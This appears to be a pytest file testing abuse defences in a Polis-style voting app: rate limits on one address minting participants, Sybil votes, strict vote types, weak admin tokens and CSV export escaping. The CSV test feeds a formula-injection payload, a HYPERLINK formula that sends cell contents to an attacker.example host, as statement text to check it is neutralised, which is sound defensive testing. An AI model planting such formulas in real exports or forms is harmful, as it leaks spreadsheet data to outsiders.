"""Abuse from the open internet (issue #18, item 11): one address minting participants and
votes, votes that are not integers, forms without the statement they vote on, a guessable admin
token, and formulas in statement text reaching a spreadsheet through the CSV export."""

from __future__ import annotations

import csv
import io
import os
import re
from pathlib import Path
from typing import Any

import pytest
from assembly_helpers import (
    ADMIN_HEADERS,
    UNLIMITED,
    camp_votes,
    client,
    create,
    join,
    run_cli,
    statement_ids,
)
from fastapi.testclient import TestClient

from charter.assembly.app import create_app
from charter.assembly.deps import AssemblySettings
from charter.assembly.security import new_token
from charter.errors import ConfigError


def _rows(c: TestClient, cid: int, name: str) -> list[dict[str, str]]:
    r = c.get(f"/api/conversations/{cid}/export/{name}", headers=ADMIN_HEADERS)
    assert r.status_code == 200
    return list(csv.DictReader(io.StringIO(r.text)))


def _vote(c: TestClient, cid: int, who: dict[str, str], sid: object, vote: object) -> int:
    r = c.post(f"/api/conversations/{cid}/votes", json={"statement_id": sid, "vote": vote},
               headers=who)  # fmt: skip
    return r.status_code


def test_one_address_cannot_mint_183_participants_in_seconds(tmp_path: Path) -> None:
    """The report: one address made 183 participants and 177 agree votes on one statement in
    2.9 s. With the default limits it gets 10 participants, so 10 votes on that statement."""
    c = client(tmp_path)  # the default limits
    cid = create(c, ["The target statement", "Another statement"])
    sid = statement_ids(c, cid)[0]
    answers = [c.post(f"/api/conversations/{cid}/participants") for _ in range(183)]
    codes = [r.status_code for r in answers]
    assert codes.count(201) == 10 and codes.count(429) == 173
    assert int(answers[-1].headers["retry-after"]) >= 1
    tokens = [{"X-Participant-Token": r.json()["token"]} for r in answers if r.status_code == 201]
    for me in tokens:
        assert _vote(c, cid, me, sid, 1) == 200
    # the same participant voting again replaces its vote: still one per participant
    assert [_vote(c, cid, tokens[0], sid, 1) for _ in range(20)] == [200] * 20
    votes = [r for r in _rows(c, cid, "votes.csv") if r["comment-id"] == str(sid)]
    assert len(votes) == 10
    assert {r["comment-id"]: r["agrees"] for r in _rows(c, cid, "comments.csv")}[str(sid)] == "10"
    # the limit is per address: someone else joins as usual
    elsewhere = TestClient(c.app, client=("203.0.113.7", 50000))
    assert elsewhere.post(f"/api/conversations/{cid}/participants").status_code == 201


def test_new_visitors_voting_through_the_page_count_as_joins(tmp_path: Path) -> None:
    c = client(tmp_path)
    cid = create(c, ["Only statement"], strict_moderation=False)
    sid = statement_ids(c, cid)[0]
    codes = []
    for _ in range(15):  # fresh browsers (no cookies) behind one address
        visitor = TestClient(c.app)
        page = visitor.get(f"/c/{cid}")
        token = re.search(r'name="csrf" value="([0-9a-f]+)"', page.text)
        assert token
        form = {"csrf": token.group(1), "statement_id": str(sid), "vote": "1"}
        codes.append(visitor.post(f"/c/{cid}/vote", data=form, follow_redirects=False).status_code)
    assert codes.count(303) == 10 and codes.count(429) == 5
    assert len(_rows(c, cid, "votes.csv")) == 10


def test_single_vote_sybils_do_not_move_groups_gic_or_the_draft(tmp_path: Path) -> None:
    """An attacker with many addresses is not stopped by the limits. Polis's rules still keep
    177 one-vote participants out of the groups (only participants with at least min(7,
    #statements) votes are clustered), so the groups, every GIC and the top-GIC statements
    (what `draft` picks) are exactly those without them. Polis's consensus list, which counts
    every participant's votes, does move: see docs/assembly.md."""
    c = client(tmp_path, join_rate=UNLIMITED, address_rate=UNLIMITED)
    seeds = [f"Opinion {i} about assistants" for i in range(1, 11)]
    seeds += ["The assistant should be honest.", "The assistant should respect privacy."]
    cid = create(c, seeds)
    sids = statement_ids(c, cid)
    for votes in camp_votes(60, sids, set(sids[-2:])):
        me = join(c, cid)
        for sid, v in votes:
            assert _vote(c, cid, me, sid, v) == 200

    def summary() -> dict[str, Any]:
        r = c.get(f"/api/conversations/{cid}/analysis", headers=ADMIN_HEADERS)
        result: dict[str, Any] = r.json()["summary"]
        return result

    before = summary()
    target = sids[0]  # a divisive statement
    for _ in range(177):
        assert _vote(c, cid, join(c, cid), target, 1) == 200
    after = summary()
    assert (before["n_participants"], after["n_participants"]) == (60, 237)
    assert before["n_in_conv"] == after["n_in_conv"] == 60
    assert [g["size"] for g in before["groups"]] == [g["size"] for g in after["groups"]] == [30, 30]
    assert before["top_gic"] == after["top_gic"]
    gic = [{st["statement_id"]: st["gic"] for st in s["statements"]} for s in (before, after)]
    assert gic[0] == gic[1]
    agreed = [[p["statement_id"] for p in s["consensus"]["agree"]] for s in (before, after)]
    assert str(target) not in agreed[0] and agreed[1][0] == str(target)  # the known weakness


def test_votes_are_strict_integers_booleans_refused(tmp_path: Path) -> None:
    c = client(tmp_path)
    cid = create(c, ["x", "y"])
    me = join(c, cid)
    sid = statement_ids(c, cid)[0]
    for vote in (True, False, 1.0, "1", None):
        assert _vote(c, cid, me, sid, vote) == 422, vote
    assert _vote(c, cid, me, True, 1) == 422  # `true` is not statement 1 either
    assert _vote(c, cid, me, float(sid), 1) == 422
    assert _rows(c, cid, "votes.csv") == []
    assert _vote(c, cid, me, sid, -1) == 200
    url = f"/api/conversations/{cid}/statements/{sid}/moderation"
    assert c.put(url, json={"moderated": True}, headers=ADMIN_HEADERS).status_code == 422
    assert c.put(url, json={"moderated": -1}, headers=ADMIN_HEADERS).status_code == 204


def test_vote_form_without_statement_id_is_refused_not_a_vote_on_1(tmp_path: Path) -> None:
    c = client(tmp_path)
    cid = create(c, ["First statement", "Second statement"], strict_moderation=False)
    page = c.get(f"/c/{cid}")
    token = re.search(r'name="csrf" value="([0-9a-f]+)"', page.text)
    assert token
    csrf = token.group(1)
    for form in ({"vote": "1"}, {"statement_id": "", "vote": "1"}, {"statement_id": "x"},
                 {"statement_id": "1"}, {"statement_id": "1", "vote": "2"}):  # fmt: skip
        r = c.post(f"/c/{cid}/vote", data={"csrf": csrf, **form}, follow_redirects=False)
        assert r.status_code == 400, form
        assert "did not say which statement" in r.text
    assert _rows(c, cid, "votes.csv") == []
    # the admin's moderation form has the same rule
    c.post("/admin/login", data={"csrf": csrf, "token": ADMIN_HEADERS["Authorization"][7:]})
    r = c.post(f"/admin/c/{cid}/moderate", data={"csrf": csrf, "moderated": "-1"})
    assert r.status_code == 400 and "statement_id missing" in r.text
    assert {row["moderated"] for row in _rows(c, cid, "comments.csv")} == {"1"}


@pytest.mark.parametrize("weak", ["a", "x" * 31, "a" * 64, "abcabcabc" * 5])
def test_weak_admin_tokens_are_refused_at_start(tmp_path: Path, weak: str) -> None:
    settings = AssemblySettings(db_url=f"sqlite:///{tmp_path / 'a.db'}", admin_token=weak)
    with pytest.raises(ConfigError, match="CHARTER_ADMIN_TOKEN is too weak"):
        create_app(settings)


def test_serve_with_a_weak_admin_token_exits_with_the_reason(tmp_path: Path) -> None:
    env = {**os.environ, "CHARTER_ADMIN_TOKEN": "a"}
    r = run_cli(["assembly", "serve", "--db", f"sqlite:///{tmp_path / 'a.db'}", "--port", "0"],
                env=env, timeout=60)  # fmt: skip
    assert r.returncode == 2
    assert "CHARTER_ADMIN_TOKEN is too weak (1 characters, 1 different)" in r.stderr
    assert "secrets.token_urlsafe(32)" in r.stderr
    strong = new_token()
    create_app(AssemblySettings(db_url=f"sqlite:///{tmp_path / 'b.db'}", admin_token=strong))


def test_csv_export_neutralises_formula_text_and_keeps_numbers(tmp_path: Path) -> None:
    c = client(tmp_path)
    texts = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
             "+1 555 0100 is my number", "-1 is how I feel", "@SUM(A1:A9)",
             "An ordinary statement"]  # fmt: skip
    cid = create(c, texts)
    me = join(c, cid)
    sids = statement_ids(c, cid)
    for sid in sids:
        assert _vote(c, cid, me, sid, -1) == 200
    comments = _rows(c, cid, "comments.csv")
    assert [r["comment-body"] for r in comments] == ["'" + t for t in texts[:4]] + [texts[4]]
    assert {r["disagrees"] for r in comments} == {"1"}  # numbers stay numbers
    assert {r["vote"] for r in _rows(c, cid, "votes.csv")} == {"-1"}
    wide = _rows(c, cid, "participants-votes.csv")
    assert [wide[0][str(s)] for s in sids] == ["-1"] * len(sids)
    assert wide[0]["n-disagree"] == str(len(sids))
    # the admin page's download is the same file
    raw = c.get(f"/api/conversations/{cid}/export/comments.csv", headers=ADMIN_HEADERS).text
    assert ',"=HYPERLINK' not in raw and ",-1 is how" not in raw
